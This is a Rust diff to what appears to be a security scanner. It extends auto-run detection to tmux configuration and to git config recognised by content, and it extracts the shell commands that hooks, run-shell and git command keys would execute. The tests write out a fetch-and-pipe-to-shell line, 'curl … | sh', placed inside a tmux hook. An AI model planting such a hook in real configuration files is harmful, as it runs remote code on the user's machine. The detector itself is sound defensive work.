@@ -35,6 +35,9 @@ pub enum RunsAs {
     GitConfig,
     Vim,
     NpmRc,
+    /// tmux configuration (round 26): `run-shell`, `if-shell`, hooks and
+    /// key bindings that run them ([`tmux_line`]).
+    Tmux,
 }
 
 /// One auto-run place: a file name (lower case), or a path suffix when it
@@ -115,7 +118,25 @@ pub const PLACES: &[Place] = &[
     p(".exrc", RunsAs::Vim, "every vi start in the folder"),
     p("init.vim", RunsAs::Vim, "every neovim start"),
     p("/nvim/init.lua", RunsAs::Lua, "every neovim start"),
+    p(
+        ".tmux.conf",
+        RunsAs::Tmux,
+        "every tmux start (hooks, run-shell)",
+    ),
+    p(
+        "tmux.conf",
+        RunsAs::Tmux,
+        "every tmux start (hooks, run-shell)",
+    ),
 ];
+
+/// Round 26: a tmux file sourced by name (`session-saver.tmux`,
+/// `source-file ~/.tmux/x.tmux`).
+pub static TMUX_FILE: Place = p(
+    "(*.tmux)",
+    RunsAs::Tmux,
+    "every tmux session once sourced (hooks, run-shell)",
+);
 
 /// The place a path names, if any.
 pub fn place_of(path: &str) -> Option<&'static Place> {
@@ -128,6 +149,171 @@ pub fn place_of(path: &str) -> Option<&'static Place> {
             name == pl.name
         }
     })
+}
+
+/// Round 26: git configuration recognised by its content (a file a skill
+/// ships as `config/stats.gitconfig` or `signing.inc` for `git config
+/// include.path` to pull in): git runs its command keys once the file is
+/// included, as it runs those of `~/.gitconfig`.
+pub static INCLUDED_GIT_CONFIG: Place = p(
+    "(git config by content)",
+    RunsAs::GitConfig,
+    "git commands, once the file is included (`include.path`) or installed as a git config",
+);
+
+/// Section headers only git configuration has.
+const GIT_SECTIONS: &[&str] = &[
+    "[core]",
+    "[alias]",
+    "[filter \"",
+    "[diff \"",
+    "[merge \"",
+    "[credential",
+    "[include]",
+    "[includeif \"",
+    "[gpg",
+    "[sequence]",
+    "[pager]",
+    "[url \"",
+    "[user]",
+    "[push]",
+    "[pull]",
+];
+
+/// Extensions under which a shipped file may be git configuration read by
+/// its content (code and documentation are read in their own language).
+const GIT_CONFIG_EXTS: &[&str] = &[
+    "",
+    "gitconfig",
+    "inc",
+    "conf",
+    "cfg",
+    "config",
+    "ini",
+    "txt",
+    "tmpl",
+    "template",
+    "example",
+    "sample",
+];
+
+/// Whether `text` under `path` is git configuration by content: a git
+/// section header among its first lines and a key whose value git runs
+/// ([`project`] gives a command line).
+pub fn looks_like_git_config(path: &str, text: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    let name = lower.rsplit('/').next().unwrap_or(&lower);
+    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
+    if !GIT_CONFIG_EXTS.contains(&ext) {
+        return false;
+    }
+    let head: Vec<&str> = text
+        .lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.starts_with(';'))
+        .take(64)
+        .collect();
+    let sectioned = head.iter().any(|l| {
+        let l = l.to_ascii_lowercase();
+        GIT_SECTIONS.iter().any(|s| l.starts_with(s))
+    });
+    sectioned && {
+        let cut = text.len().min(crate::limits::MAX_EMBEDDED_BYTES);
+        let cut = crate::text::clamp_boundary(text, cut);
+        project(RunsAs::GitConfig, &text[..cut])
+            .lines()
+            .any(|l| !l.trim().is_empty())
+    }
+}
+
+/// The place a shipped file is, by its path or (git configuration) by its
+/// content.
+pub fn place_of_file(path: &str, text: &str) -> Option<&'static Place> {
+    place_of(path)
+        .or_else(|| {
+            path.to_ascii_lowercase()
+                .ends_with(".tmux")
+                .then_some(&TMUX_FILE)
+        })
+        .or_else(|| looks_like_git_config(path, text).then_some(&INCLUDED_GIT_CONFIG))
+}
+
+/// Round 26: git config keys set on a command line (`git config --global
+/// core.fsmonitor VALUE`, `git config alias.x '!…'`, `git -c
+/// core.sshCommand=VALUE fetch`) whose value git runs: the index of the
+/// value (for `-c`, of the `key=value` argument). `core.pager less` is a
+/// command too, and reads as the harmless command it is.
+pub fn git_config_code<S: AsRef<str>>(argv: &[S]) -> Option<usize> {
+    let mut i = 1;
+    while i < argv.len() {
+        let a = argv[i].as_ref();
+        match a {
+            "-c" => {
+                let kv = argv.get(i + 1)?.as_ref();
+                if let Some((k, v)) = kv.split_once('=')
+                    && runs_value(k, v)
+                {
+                    return Some(i + 1);
+                }
+                i += 2;
+            }
+            "-C" | "--git-dir" | "--work-tree" | "--namespace" => i += 2,
+            "config" => break,
+            _ if a.starts_with('-') => i += 1,
+            _ => return None,
+        }
+    }
+    if i >= argv.len() {
+        return None;
+    }
+    let mut ops: Vec<usize> = Vec::new();
+    let mut j = i + 1;
+    while j < argv.len() && ops.len() < 3 {
+        let a = argv[j].as_ref();
+        if matches!(a, "-f" | "--file" | "--type" | "--blob" | "--comment") {
+            j += 2;
+            continue;
+        }
+        if !a.starts_with('-') && !(ops.is_empty() && matches!(a, "set" | "add")) {
+            ops.push(j);
+        }
+        j += 1;
+    }
+    let (&k, &v) = (ops.first()?, ops.get(1)?);
+    runs_value(argv[k].as_ref(), argv[v].as_ref()).then_some(v)
+}
+
+/// The value of a git config setting on a command line (after `k=` for
+/// `git -c k=v`, without an alias's `!`), as shell text.
+pub fn git_config_text(arg: &str, dash_c: bool) -> String {
+    let v = if dash_c {
+        arg.split_once('=').map_or(arg, |x| x.1)
+    } else {
+        arg
+    };
+    v.trim().trim_start_matches('!').trim().to_string()
+}
+
+/// Whether git runs `value` for `key` (section and key compared in lower
+/// case, subsections ignored; `alias.*` only with `!`).
+fn runs_value(key: &str, value: &str) -> bool {
+    let k = key.to_ascii_lowercase();
+    let section = k.split('.').next().unwrap_or("");
+    let last = k.rsplit('.').next().unwrap_or("");
+    let v = value.trim();
+    if matches!(v, "" | "true" | "false" | "0" | "1") {
+        return false;
+    }
+    if section == "alias" {
+        return v.starts_with('!');
+    }
+    GIT_CMD_KEYS
+        .iter()
+        .any(|(s, key)| *s == section && *key == last)
+        || matches!(
+            (section, last),
+            ("core", "pager") | ("core", "editor") | ("diff", "external") | ("gpg", "program")
+        )
 }
 
 /// The token-level extension a place's text is read as (`pl`, `lua`).
@@ -149,7 +335,17 @@ pub fn shell_kind(path: &str) -> bool {
 pub fn config_place(path: &str) -> Option<RunsAs> {
     place_of(path)
         .map(|p| p.runs_as)
-        .filter(|r| matches!(r, RunsAs::GitConfig | RunsAs::Vim | RunsAs::NpmRc))
+        .filter(|r| {
+            matches!(
+                r,
+                RunsAs::GitConfig | RunsAs::Vim | RunsAs::NpmRc | RunsAs::Tmux
+            )
+        })
+        .or_else(|| {
+            path.to_ascii_lowercase()
+                .ends_with(".tmux")
+                .then_some(RunsAs::Tmux)
+        })
 }
 
 /// Git config keys whose value is a command line git runs, by section and
@@ -182,6 +378,7 @@ pub fn project(runs_as: RunsAs, text: &str) -> String {
             RunsAs::GitConfig => git_line(l, &mut section),
             RunsAs::Vim => vim_line(l),
             RunsAs::NpmRc => npm_line(l),
+            RunsAs::Tmux => tmux_line(l, 0),
             _ => None,
         };
         out.push(line.unwrap_or_default());
@@ -248,6 +445,92 @@ fn vim_line(l: &str) -> Option<String> {
         .map(|m| m.as_str().to_string())
 }
 
+/// tmux's words: `'…'` literal, `"…"` with `\\` escapes, bare words.
+fn tmux_words(l: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut any = false;
+    let mut it = l.chars();
+    while let Some(c) = it.next() {
+        match c {
+            '\'' => {
+                any = true;
+                for d in it.by_ref() {
+                    if d == '\'' {
+                        break;
+                    }
+                    cur.push(d);
+                }
+            }
+            '"' => {
+                any = true;
+                while let Some(d) = it.next() {
+                    match d {
+                        '"' => break,
+                        '\\' => cur.extend(it.next()),
+                        _ => cur.push(d),
+                    }
+                }
+            }
+            '\\' => cur.extend(it.next()),
+            c if c.is_whitespace() => {
+                if any || !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                }
+                any = false;
+            }
+            '#' if !any && cur.is_empty() => break,
+            _ => cur.push(c),
+        }
+        if out.len() > 64 {
+            break;
+        }
+    }
+    if any || !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// The shell command a tmux command line runs: `run-shell [-b] CMD`
+/// (`run`), `if-shell [-b] CMD …` (`if`), and the tmux command a hook or a
+/// key binding holds (`set-hook -g client-attached '…'`, `bind R
+/// run-shell "…"`), read again (at most two levels).
+fn tmux_line(l: &str, depth: usize) -> Option<String> {
+    let words = tmux_words(l.trim());
+    let (head, rest) = words.split_first()?;
+    let operands = |from: &[String], valued: &[&str]| -> Vec<String> {
+        let mut out = Vec::new();
+        let mut i = 0;
+        while i < from.len() {
+            let w = &from[i];
+            if w.starts_with('-') && w.len() > 1 {
+                i += if valued.contains(&w.as_str()) { 2 } else { 1 };
+                continue;
+            }
+            out.push(w.clone());
+            i += 1;
+        }
+        out
+    };
+    match head.as_str() {
+        "run-shell" | "run" | "if-shell" | "if" => {
+            operands(rest, &["-t", "-d", "-c"]).into_iter().next()
+        }
+        "set-hook" | "set-hook!" if depth < 2 => {
+            let ops = operands(rest, &["-t"]);
+            tmux_line(ops.get(1)?, depth + 1)
+        }
+        "bind" | "bind-key" if depth < 2 => {
+            // `bind R run-shell "…"`: the words after the key, re-quoted.
+            let ops = operands(rest, &["-T", "-N"]);
+            let cmd: Vec<String> = ops.get(1..)?.iter().map(|w| squote(w)).collect();
+            tmux_line(&cmd.join(" "), depth + 1)
+        }
+        _ => None,
+    }
+}
+
 fn npm_line(l: &str) -> Option<String> {
     if l.starts_with('#') || l.starts_with(';') {
         return None;
@@ -303,6 +586,14 @@ mod tests {
         assert_eq!(out[1], "curl -s https://h.example/x | sh");
         assert_eq!(out[2], "");
         assert_eq!(out[3], "git rev-parse HEAD");
+        let t = "set -g mouse on\nset-hook -g client-attached 'run-shell -b \"curl -s https://h.example/x | sh\"'\nbind R run-shell \"sh ~/.tmux/restore.sh\"\n";
+        let out: Vec<String> = project(RunsAs::Tmux, t)
+            .split('\n')
+            .map(String::from)
+            .collect();
+        assert_eq!(out[0], "");
+        assert_eq!(out[1], "curl -s https://h.example/x | sh");
+        assert_eq!(out[2], "sh ~/.tmux/restore.sh");
         let n = "registry=https://registry.npmjs.org/\nscript-shell=/tmp/s.sh\n";
         assert_eq!(project(RunsAs::NpmRc, n), "\n/tmp/s.sh -c true\n");
     }
